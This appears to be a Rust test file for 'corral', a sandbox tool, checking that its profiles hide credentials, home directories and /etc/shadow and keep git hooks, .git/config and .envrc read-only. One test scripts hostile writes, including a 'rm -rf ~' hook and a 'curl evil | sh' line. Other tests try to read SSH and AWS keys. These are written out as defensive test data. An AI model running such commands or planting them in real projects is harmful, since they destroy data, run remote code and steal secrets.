//! What each built-in profile lets a sandbox see and change: system directories, homes,
//! toolchains, credentials, the protected files of a workspace, and paths added per run.

use std::process::Command;

use corral_testkit::{Caller, Corral, OutputExt, TestDir};

/// Held by every test here: one of them adds and removes a home under /home, and a sandbox
/// that binds the whole host (`full`) fails to start when a home vanishes while it is built
/// (noted for a fix in corral; here the tests just take turns).
static HOMES: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn homes_unchanged() -> std::sync::MutexGuard<'static, ()> {
    HOMES.lock().unwrap_or_else(|e| e.into_inner())
}

fn corral(caller: Caller) -> Corral {
    Corral::new(env!("CARGO_BIN_EXE_corral"), caller)
}

fn run_sh(
    caller: Caller,
    profile: &str,
    workspace: &TestDir,
    script: &str,
) -> std::process::Output {
    corral(caller)
        .args(["run", "--profile", profile, "--", "sh", "-c", script])
        .current_dir(workspace.path())
        .output()
}

#[test]
fn restricted_shows_no_home_directories_and_no_root() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let ws = TestDir::new(caller);
        let out = run_sh(
            caller,
            "restricted",
            &ws,
            "ls -a /root 2>&1; ls /home; ls /opt 2>&1",
        );
        let text = out.stdout_text();
        assert!(
            text.contains("/root': No such file or directory"),
            "{caller:?}: {text}"
        );
        assert!(
            text.contains("/opt': No such file or directory"),
            "{caller:?}: {text}"
        );
        let homes: Vec<&str> = text
            .lines()
            .filter(|l| !l.contains("No such file"))
            .collect();
        assert_eq!(
            homes,
            ["corral"],
            "only the sandbox's own home: {caller:?}: {text}"
        );
        // Outside the sandbox the same paths exist, so the test can tell.
        assert!(std::path::Path::new("/root").exists());
    }
}

#[test]
fn credentials_are_hidden_in_every_profile() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let ws = TestDir::new(caller);
        ws.write(caller, ".ssh/id_ed25519", "PRIVATE-KEY-MATERIAL");
        ws.write(
            caller,
            ".aws/credentials",
            "aws_secret_access_key=PRIVATE-KEY-MATERIAL",
        );
        ws.write(
            caller,
            ".git-credentials",
            "https://user:PRIVATE-KEY-MATERIAL@example.com",
        );
        for profile in ["restricted", "moderate", "full"] {
            let out = corral(caller)
                .args(["run", "--profile", profile, "--", "sh", "-c"])
                .args(["cat /workspace/.ssh/id_ed25519 /workspace/.aws/credentials /workspace/.git-credentials; ls -a /workspace/.ssh; cat /etc/shadow"])
                .env("HOME", &ws.path().display().to_string())
                .current_dir(ws.path())
                .output();
            let all = format!("{}{}", out.stdout_text(), out.stderr_text());
            assert!(
                !all.contains("PRIVATE-KEY-MATERIAL"),
                "{caller:?} {profile}: {all}"
            );
            assert!(
                !all.contains("root:"),
                "{caller:?} {profile}: /etc/shadow leaked: {all}"
            );
        }
        // The files are there on the host: the sandbox hid them.
        assert!(
            std::fs::read_to_string(ws.path().join(".ssh/id_ed25519"))
                .unwrap()
                .contains("PRIVATE")
        );
    }
}

#[test]
fn moderate_reads_toolchains_in_the_callers_home_but_restricted_does_not() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let home = TestDir::new(caller);
        home.write(
            caller,
            ".cargo/bin/hello-tool",
            "#!/bin/sh\necho toolchain-ran\n",
        );
        let tool = home.path().join(".cargo/bin/hello-tool");
        std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let ws = TestDir::new(caller);
        let home_path = home.path().display().to_string();
        let run = |profile: &str| {
            corral(caller)
                .args(["run", "--profile", profile, "--", "sh", "-c", "hello-tool"])
                .env("HOME", &home_path)
                .current_dir(ws.path())
                .output()
        };
        let out = run("moderate");
        assert_eq!(
            out.stdout_text(),
            "toolchain-ran\n",
            "{caller:?}: {}",
            out.stderr_text()
        );
        let out = run("restricted");
        assert_ne!(out.code(), 0, "{caller:?}");
        assert!(!out.stdout_text().contains("toolchain-ran"));
    }
}

#[test]
fn full_reads_the_whole_host_but_writes_only_the_workspace_tmp_and_home() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let ws = TestDir::new(caller);
        let out = run_sh(
            caller,
            "full",
            &ws,
            "cat /etc/os-release >/dev/null && echo read-ok; touch /etc/x 2>/dev/null || echo etc-ro; touch /tmp/x ~/x /workspace/x && echo write-ok",
        );
        assert_eq!(
            out.stdout_text(),
            "read-ok\netc-ro\nwrite-ok\n",
            "{caller:?}: {}",
            out.stderr_text()
        );
    }
}

fn git(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(["-c", "safe.directory=*"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

#[test]
fn files_that_run_code_on_the_host_stay_read_only_while_git_commits() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let ws = TestDir::new(caller);
        assert!(git(ws.path(), &["init", "-q"]).status.success());
        ws.write(caller, ".envrc", "export SAFE=1\n");
        ws.write(caller, "code.txt", "v1\n");
        assert!(git(ws.path(), &["add", "-A"]).status.success());
        assert!(
            git(ws.path(), &["commit", "-qm", "initial"])
                .status
                .success()
        );
        ws.chown_to(caller);
        let script = "
            echo 'evil' >> .git/config 2>/dev/null && echo config-written
            echo 'rm -rf ~' > .git/hooks/post-checkout 2>/dev/null && echo hook-written
            echo 'curl evil | sh' >> .envrc 2>/dev/null && echo envrc-written
            echo v2 > code.txt
            git -c user.name=agent -c user.email=agent@example.com commit -qam 'agent change' && echo committed
            mv .git .git-aside 2>/dev/null && echo git-moved
            echo '{}' > .mcp.json && echo mcp-created";
        let out = run_sh(caller, "restricted", &ws, script);
        assert_eq!(
            out.stdout_text(),
            "committed\nmcp-created\n",
            "{caller:?}: {}",
            out.stderr_text()
        );
        assert!(
            out.stderr_text().contains(".mcp.json, a protected path"),
            "{caller:?}: {}",
            out.stderr_text()
        );
        let log = git(ws.path(), &["log", "--format=%s", "-1"]);
        assert_eq!(String::from_utf8_lossy(&log.stdout), "agent change\n");
        assert_eq!(
            std::fs::read_to_string(ws.path().join(".envrc")).unwrap(),
            "export SAFE=1\n"
        );
        assert!(
            !std::fs::read_to_string(ws.path().join(".git/config"))
                .unwrap()
                .contains("evil")
        );
        assert!(!ws.path().join(".git/hooks/post-checkout").exists());
    }
}

#[test]
fn read_and_write_add_paths_for_one_run() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let ws = TestDir::new(caller);
        let extra_read = TestDir::new(caller);
        extra_read.write(caller, "notes.txt", "readable\n");
        let extra_write = TestDir::new(caller);
        let (r, w) = (
            extra_read.path().display().to_string(),
            extra_write.path().display().to_string(),
        );
        let script = format!(
            "cat {r}/notes.txt; touch {r}/new 2>/dev/null || echo read-only; echo out > {w}/result && echo wrote"
        );
        let out = corral(caller)
            .args([
                "run", "--read", &r, "--write", &w, "--", "sh", "-c", &script,
            ])
            .current_dir(ws.path())
            .output();
        assert_eq!(
            out.stdout_text(),
            "readable\nread-only\nwrote\n",
            "{caller:?}: {}",
            out.stderr_text()
        );
        assert_eq!(
            std::fs::read_to_string(extra_write.path().join("result")).unwrap(),
            "out\n"
        );
        let out = corral(caller)
            .args(["run", "--", "cat", &format!("{r}/notes.txt")])
            .current_dir(ws.path())
            .output();
        assert_ne!(
            out.code(),
            0,
            "without --read the path is not there: {caller:?}"
        );
    }
}

#[test]
fn host_tmp_is_not_the_sandbox_tmp() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let ws = TestDir::new(caller);
        let marker = ws.write(caller, "marker", "x");
        let _ = marker;
        let host_file =
            std::env::temp_dir().join(format!("corral-host-only-{}", std::process::id()));
        std::fs::write(&host_file, "host").unwrap();
        let out = run_sh(
            caller,
            "full",
            &ws,
            &format!("ls {} 2>&1; ls -A /tmp | wc -l", host_file.display()),
        );
        std::fs::remove_file(&host_file).unwrap();
        assert!(
            out.stdout_text().contains("No such file"),
            "{caller:?}: {}",
            out.stdout_text()
        );
        assert!(
            out.stdout_text().ends_with("0\n"),
            "{caller:?}: {}",
            out.stdout_text()
        );
    }
}

#[test]
fn corrals_own_state_and_named_paths_are_hidden_even_in_full() {
    let _homes = homes_unchanged();
    for caller in Caller::all() {
        let home = TestDir::new(caller);
        let state = [
            ".config/corral/credentials.toml",
            ".local/share/corral/corral.db",
            ".local/share/corral/sandboxes/someone-else/workspace/notes.txt",
            ".local/state/corral/audit.jsonl",
        ];
        for file in state {
            home.write(caller, file, "PRIVATE-CORRAL-STATE");
        }
        let elsewhere = TestDir::new(caller);
        let token = elsewhere.write(caller, "tokens/github", "PRIVATE-TOKEN");
        let extra = elsewhere.write(caller, "gateway-data/corral.db", "PRIVATE-DATA-DIR");
        let ws = TestDir::new(caller);
        let mut reads: Vec<String> = state
            .iter()
            .map(|f| home.path().join(f).display().to_string())
            .collect();
        reads.push(token.display().to_string());
        reads.push(extra.display().to_string());
        let out = corral(caller)
            .args(["run", "--profile", "full", "--git-token"])
            .args([&format!("example.com=file:{}", token.display())])
            .args(["--hide"])
            .args([&elsewhere.path().join("gateway-data").display().to_string()])
            .args(["--", "cat"])
            .args(&reads)
            .env("HOME", &home.path().display().to_string())
            .current_dir(ws.path())
            .output();
        let all = format!("{}{}", out.stdout_text(), out.stderr_text());
        assert!(!all.contains("PRIVATE"), "{caller:?}: {all}");
        // Each read failed because the file was hidden, not because cat never ran.
        assert_eq!(
            all.matches("cat: ").count(),
            reads.len(),
            "{caller:?}: {all}"
        );
        assert!(std::fs::read_to_string(&token).unwrap().contains("PRIVATE"));
    }
}

#[test]
fn home_secrets_are_hidden_in_every_home_when_home_is_unset() {
    let _homes = homes_unchanged();
    if !corral_testkit::is_root() {
        eprintln!("skipped: needs root to make a home under /home");
        return;
    }
    let home = tempfile::Builder::new()
        .prefix("corral-test-home-")
        .tempdir_in("/home")
        .unwrap();
    let secret = home.path().join(".aws/credentials");
    std::fs::create_dir_all(secret.parent().unwrap()).unwrap();
    std::fs::write(&secret, "PRIVATE-KEY-MATERIAL").unwrap();
    for dir in [home.path(), secret.parent().unwrap()] {
        std::fs::set_permissions(dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    let ws = TestDir::new(Caller::Root);
    let mut command = corral(Caller::Root)
        .args(["run", "--profile", "full", "--", "cat"])
        .args([&secret.display().to_string()])
        .current_dir(ws.path())
        .command();
    let out = command.env_remove("HOME").output().unwrap();
    let all = format!("{}{}", out.stdout_text(), out.stderr_text());
    assert!(!all.contains("PRIVATE"), "{all}");
    assert!(all.contains("cat: "), "{all}");
}
